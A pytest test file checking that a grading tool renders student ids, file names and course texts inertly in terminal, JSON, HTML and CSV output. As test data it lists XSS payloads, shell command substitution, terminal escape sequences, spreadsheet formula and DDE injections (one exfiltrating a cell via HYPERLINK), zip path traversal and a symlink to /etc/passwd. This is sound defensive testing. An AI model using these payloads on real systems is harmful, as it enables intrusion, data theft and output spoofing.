"""Names and texts that a student chooses reach people and programs as text: nothing acts on them.

What code prints and raises is in ``tests/attacks/inject``. Here are the names of folders, zips and files, ids, and what
a course itself says, through every command that shows them, to a terminal, a browser, a spreadsheet and a program.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from tests.shell import Answer, Shell, write

pytestmark = pytest.mark.slow

# Ids that are odd but harmless once they are escaped: their owners are graded like everybody.
TAKEN = {
    "markup": "<script>alert(1)<script>",
    "an image": "<img src=x onerror=alert(1)>",
    "an attribute": "\" onmouseover='alert(1)' x=\"",
    "a comment": "x--><b>x<!--",
    "an entity": "&lt;b&gt;&#x1b;[31m",
    "a style": "}body{display:none",
    "a link": "[paid](javascript:alert(1))",
    "a template": "{{ 7 * 7 }}{% raw %}",
    "a format": "%s%n{0.__class__}",
    "a shell": "$(touch pwned)`touch pwned`",
    "rich markup": "[red]ada[bold link=file:x]",
    "a row": 'ada","100","',
    "letters": "Ådá Łovelace 李",
}
# Ids that no escaping makes fit to be read: their folders are refused, and nobody else's.
REFUSED = {
    "an escape": "a\x1b[31mb",
    "a title": "a\x1b]0;pwned\x07b",
    "a C1 control": "a\x9b31mb",
    "a line": "a\nADA 5 of 5",
    "a return": "a\rADA",
    "a tab": "a\tb",
    "a backspace": "a\x08\x08b",
    "direction": "a\u202eb",
    "an isolate": "a\u2067b",
    "a zero width space": "a\u200bb",
    "a filler": "a\u3164b",
    "a tag": "a\U000e0041b",
    "a line separator": "a\u2028b",
    "not Unicode": b"a\xff\xfeb".decode("utf-8", "surrogateescape"),
    "a pile of marks": "a" + "\u0300" * 40,
    "a backslash": "a\\..\\ada",
    "a formula": "=1+1",
    "a call": '=HYPERLINK("http:x?"&A1,"ada")',
    "a command": "@SUM(1+1)*cmd|' C'!A0",
    "a sum": "+1+1",
    "a difference": "-1+1",
}
QUIZ = """\
format: 1
id: quiz
title: {title}
summary: {title}
questions:
  - id: one
    kind: choice
    points: 1
    title: {title}
    prompt: {title}
    choices: [{{text: this, correct: true, why: {title}}}, {{text: that}}]
  - {{id: words, kind: text, points: 1, prompt: Why?}}
"""
FORMULA_STARTS = "=+-@\t\r\n"
MARKER = json.dumps({"format": 1, "assignment": "quiz"})


def quiz(title: str = "A quiz") -> str:
    return QUIZ.format(title=json.dumps(title))


def make_shell(folder: Path, title: str = "A quiz") -> Shell:
    files = {"course.yaml": f"title: {json.dumps(title)}\nassignments: [quiz]\n", "quiz/assignment.yaml": quiz(title)}
    return Shell(folder, write(folder / "course", files))


def unsafe(text: str) -> list[str]:
    """Return the characters that something would act on, or that nobody sees."""
    return [
        f"U+{ord(letter):04X}"
        for letter in text
        if letter != "\n" and (unicodedata.category(letter) in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp") or letter in "ㅤ")
    ]


def check_text(answer: Answer) -> Answer:
    """Check both streams: what ``Shell`` decodes with surrogates was no UTF-8."""
    assert unsafe(answer.out.replace("\r\n", "\n")) == []  # as rows of CSV end
    assert unsafe(answer.err.replace("\t", " ")) == []
    return answer


def texts(value: Any) -> Iterator[str]:
    """Yield every string of a JSON document, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)


def check_json(answer: Answer) -> list[Any]:
    """Check each line's document as a program reads it, and return them."""
    assert answer.out.isascii()
    found = [json.loads(line) for line in answer.out.splitlines()]
    assert unsafe("\n".join(texts(found))) == []
    return found


@dataclass
class Page(HTMLParser):
    """A page as a browser takes it apart: its elements with their attributes, and its text."""

    source: str
    shape: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    text: str = ""

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.feed(self.source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, dict(attrs)))

    @property
    def skeleton(self) -> list[tuple[str, dict[str, str | None]]]:
        """The page's elements but what Markdown makes of a text, and of their attributes all but values that are words."""
        words = ("content", "datetime", "title", "aria-label", "href")
        return [
            (tag, {name: None if name in words else value for name, value in attributes.items()})
            for tag, attributes in self.shape
            if tag not in ("code", "strong", "em")
        ]

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_data(self, data: str) -> None:
        self.text += data


OWN_FILE = re.compile(r"|(\.\./)?((assignments|students|reports|tables)/)?[\w.-]+\.(html|csv)(#[\w.-]*)?|#[\w.-]*")
ASSETS = re.compile(r"(\.\./)?assets/(site|vega|vega-lite|vega-embed)(\.min)?\.(js|css)")


def read_page(path: Path) -> Page:
    """Check that a page has nothing in it that runs, loads or leads elsewhere, but the site's own, and return it."""
    page = Page(path.read_text(encoding="utf-8"))
    assert unsafe(page.source) == []
    assert not {tag for tag, _ in page.shape} & {"img", "iframe", "object", "embed", "form", "base"}
    for tag, attributes in page.shape:
        loads = attributes.get("src" if tag == "script" else "href") if tag in ("script", "link") else None
        if tag in ("script", "link"):
            assert attributes.get("type") == "application/json" or ASSETS.fullmatch(loads or ""), attributes
        refused = ("srcdoc", "action") if tag == "script" else ("src", "srcdoc", "action")
        assert not [name for name in attributes if name.startswith("on") or name in refused], tag
        assert loads or OWN_FILE.fullmatch(attributes.get("href") or ""), attributes
    return page


@dataclass(frozen=True)
class Class:
    """A class whose students have the ids of ``TAKEN`` and ``REFUSED``, and what grading it printed."""

    shell: Shell
    graded: Answer
    inbox: Path


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Class:
    shell = make_shell(tmp_path_factory.mktemp("class"))
    inbox = shell.folder / "inbox"
    for name in [*TAKEN.values(), *REFUSED.values(), "plain"]:
        write(inbox / name, {"answers.yaml": f"one: a\nwords: {json.dumps(name, ensure_ascii=True)}\n"})
    # An answer with such characters is refused where it is read, and that is not what is asked here.
    for name in REFUSED.values():
        (inbox / name / "answers.yaml").write_text("one: a\n")
    return Class(shell, shell("grade", inbox, "--assignment", "quiz"), inbox)


def test_a_class_with_odd_ids_is_graded_and_the_others_are_refused(graded: Class) -> None:
    answer = check_text(graded.graded)
    assert answer.code == 2
    rows = answer.out.splitlines()[1:]
    assert len(rows) == len(TAKEN) + len(REFUSED) + 1
    assert len([row for row in rows if row.endswith("not graded")]) == len(REFUSED)
    for name in TAKEN.values():
        assert len([row for row in rows if row.startswith(f"{name} ")]) == 1, name
    assert answer.err.count("not graded: ") == len(REFUSED)
    assert answer.err.count("cannot be a student's id") == len(REFUSED)
    assert "ADA" not in [line.split()[0] for line in (answer.out + answer.err).splitlines()]


def test_programs_read_the_ids_as_they_are(graded: Class) -> None:
    answer = replace(graded.shell, home=graded.shell.folder / "again")(
        "grade", graded.inbox, "--assignment", "quiz", "--json"
    )
    found = check_json(answer)
    refused = [line for line in found if line["status"] == "refused"]
    assert {line["student"] for line in found if line not in refused} == {*TAKEN.values(), "plain"}
    assert len(refused) == len(REFUSED)
    check_text(answer)


def test_pages_have_the_same_elements_whoever_they_are_of(graded: Class) -> None:
    answer = check_text(graded.shell("report", "--out", "pages"))
    assert answer.code == 0
    index = read_page(graded.shell.folder / "pages/index.html")
    pages = [read_page(path) for path in sorted((graded.shell.folder / "pages/reports").iterdir())]
    assert len(pages) == len(TAKEN) + 1
    assert all(page.skeleton == pages[0].skeleton for page in pages)
    for name in TAKEN.values():
        assert name in index.text
        assert [name in page.text for page in pages].count(True) == 1, name


def test_a_spreadsheet_finds_ids_and_scores_and_no_formula(graded: Class) -> None:
    answer = graded.shell("export", "canvas")
    assert answer.code == 2  # a score waits for its reader
    inbox = graded.shell.folder / "answered"
    for name in [*TAKEN.values(), *REFUSED.values()]:
        write(inbox / name, {"answers.yaml": "one: a\n"})
    shell = replace(graded.shell, home=graded.shell.folder / "exported")
    shell("grade", inbox, "--assignment", "quiz")
    check_text(shell("export", "canvas")).fails(2, f"student '{TAKEN['an entity']}': Canvas may take the semicolon")
    shutil.rmtree(shell.folder / "exported")
    shutil.rmtree(inbox / TAKEN["an entity"])
    shell("grade", inbox, "--assignment", "quiz")
    answer = check_text(shell("export", "canvas"))
    assert answer.code == 0, answer
    rows = list(csv.reader(io.StringIO(answer.out, newline=""), strict=True))
    assert {len(row) for row in rows} == {6}
    assert {row[2] for row in rows[2:]} == {*TAKEN.values()} - {TAKEN["an entity"]}
    assert {row[5] for row in rows[2:]} == {"1.00"}
    assert not [cell for row in rows for cell in row if cell.startswith(tuple(FORMULA_STARTS))]


@pytest.mark.parametrize("name", TAKEN.values(), ids=TAKEN)
def test_one_s_own_commands_show_an_odd_id_as_it_is(graded: Class, name: str) -> None:
    own = replace(graded.shell, student=name)
    assert check_text(own("status")).code == 0
    for entry in check_json(own("status", "--json"))[0]:
        assert entry["student"] == name
    shown = check_text(own("show", "--instructor", "--html", "own.html"))
    assert shown.code == 0
    assert name in read_page(own.folder / "own.html").text
    (report,) = check_json(own("show", "--json"))
    assert report["student"] == name
    assert name in check_text(replace(own, home=own.folder / "empty")("status")).out
    assert not (own.folder / "pwned").exists()


@pytest.mark.parametrize("name", [name for name in REFUSED.values() if name.isprintable() or name.isascii()])
@pytest.mark.parametrize("command", ["status", "show", "submit"])
def test_one_s_own_commands_refuse_what_the_inbox_refuses(graded: Class, command: str, name: str) -> None:
    write(graded.shell.folder / "work", {"answers.yaml": "one: a\n", "grader.json": MARKER})
    arguments = [command, *(["work"] if command == "submit" else []), f"--student={name}"]
    answer = check_text(graded.shell(*arguments))
    answer.fails(2, "cannot be a student's id")


def write_odd(folder: Path, name: str) -> None:
    """Write work in which names are odd, each in another place: files, folders, links, zips and what they say."""
    text = name.encode("utf-8", "surrogateescape").decode("utf-8", "replace")
    marker = json.dumps({"format": 1, "assignment": text, text: text})
    write(folder / "file", {f"answers{name}.yaml": "one: a\n", name: "x"})
    write(folder / "folder", {f"{name}/deep/answers.yaml": "one: a\n"})
    (write(folder / "link", {"x": ""}) / name).symlink_to("/etc/passwd")
    write(folder / "marker", {"grader.json": marker, "answers.yaml": "one: a\n"})
    write(folder / "key", {"grader.json": MARKER, "answers.yaml": f"{json.dumps(text)}: a\n"})
    write(folder / "value", {"grader.json": MARKER, "answers.yaml": f"one: {json.dumps(text)}\n"})
    for zipped, inner in {"inner": f"{text}/answers.yaml", "climber": f"../{text}", "other": f"{text}.zip"}.items():
        with zipfile.ZipFile(folder / f"{zipped}.zip", "w") as archive:
            archive.writestr(inner, "one: a\n")
            archive.comment = text.encode()


def test_names_inside_of_everybody_s_work(tmp_path: Path) -> None:
    """In a refusal's words such a name is a name; where it is of no interest, nothing of it is said."""
    shell = make_shell(tmp_path)
    names = [*TAKEN.values(), *REFUSED.values()]
    inbox = tmp_path / "inbox"
    for number, name in enumerate(names):
        write_odd(inbox / f"s{number}", name)
    for more in ((), ("--assignment", "quiz")):
        answer = check_text(shell("grade", inbox, *more))
        assert answer.code == 2
        assert answer.err.count("not graded: ") >= len(names)
        found = check_json(shell("grade", inbox, *more, "--json"))
        assert len(found) == len(answer.out.splitlines()) - 1
    flat = tmp_path / "flat"  # the same, each as one student's work
    flat.mkdir()
    for folder in inbox.iterdir():
        for work in folder.iterdir():
            work.rename(flat / f"{folder.name}-{work.name}")
    answer = check_text(shell("grade", flat, "--assignment", "quiz"))
    assert answer.err.count("not graded: ") > len(names)
    check_json(shell("grade", flat, "--assignment", "quiz", "--json"))


@pytest.mark.parametrize("name", ["<b>x", *list(REFUSED.values())[:6]])
@pytest.mark.parametrize("command", ["check", "submit", "grade", "fetch", "show"])
def test_names_as_arguments(graded: Class, command: str, name: str) -> None:
    for arguments in ([name], ["--assignment", name, "."], ["--course", name, "."], [f"--{name}"]):
        answer = check_text(graded.shell(command, *arguments))
        assert answer.code in (1, 2), (arguments, answer)


@pytest.mark.parametrize("name", TAKEN.values(), ids=TAKEN)
def test_a_course_that_says_odd_things(tmp_path: Path, name: str) -> None:
    """An author's texts may hold anything that can be seen, angle brackets above all."""
    plain, odd = make_shell(tmp_path / "plain"), make_shell(tmp_path / "odd", name)
    shapes = []
    for shell in (plain, odd):
        write(
            shell.folder / "work",
            {"answers.yaml": "one: a\nwords: x\n", "grader.json": MARKER},
        )
        for command in (["list"], ["list", "--json"], ["submit", "work"], ["show", "--html", "own.html"], ["report"]):
            assert check_text(shell(*command)).code in (0, 1), command
        pages = ["own.html", "report/index.html", "report/reports/0001-quiz.html"]
        shapes.append([read_page(shell.folder / page).skeleton for page in pages])
    assert shapes[0] == shapes[1]
    assert name in read_page(odd.folder / "own.html").text
